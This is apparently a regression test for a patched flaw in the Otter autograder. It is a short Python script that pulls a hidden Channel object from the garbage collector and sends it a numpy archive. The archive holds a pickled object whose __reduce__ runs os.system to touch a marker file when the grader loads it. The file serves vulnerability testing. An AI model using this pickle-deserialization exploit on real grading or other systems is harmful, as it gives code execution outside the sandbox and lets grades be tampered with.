"""Sends arrays of objects as an observation; their pickle runs a command wherever it is loaded."""

SOURCE = "CWE-502; a patched pickle.dump ran a shell command in the grader's process in Otter 7.0.0"
SUCCESS = "a file that only a command outside could have left"
PROOF = "stopped"

# %%
import gc
import json
import struct
import time

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


def say(body, arrays=b"", pause=0.0):
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel._writer.write(struct.pack("<II", len(text), len(arrays)) + text + arrays)
    channel._writer.flush()
    time.sleep(pause)


import io
import os
import zipfile

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/@TOKEN@-@NAME@",)


def archive():
    packed, member = io.BytesIO(), io.BytesIO()
    np.lib.format.write_array(member, np.array([Command()], dtype=object), version=(1, 0), allow_pickle=True)
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr(zipfile.ZipInfo("a0.npy"), member.getvalue())
    return packed.getvalue()


# %% question="mean"
def mean(values):
    print("attempted")
    say({"event": "observed", "probe": "means", "value": {"mean": {"$array": "a0"}}, "fault": None}, archive(), pause=2)
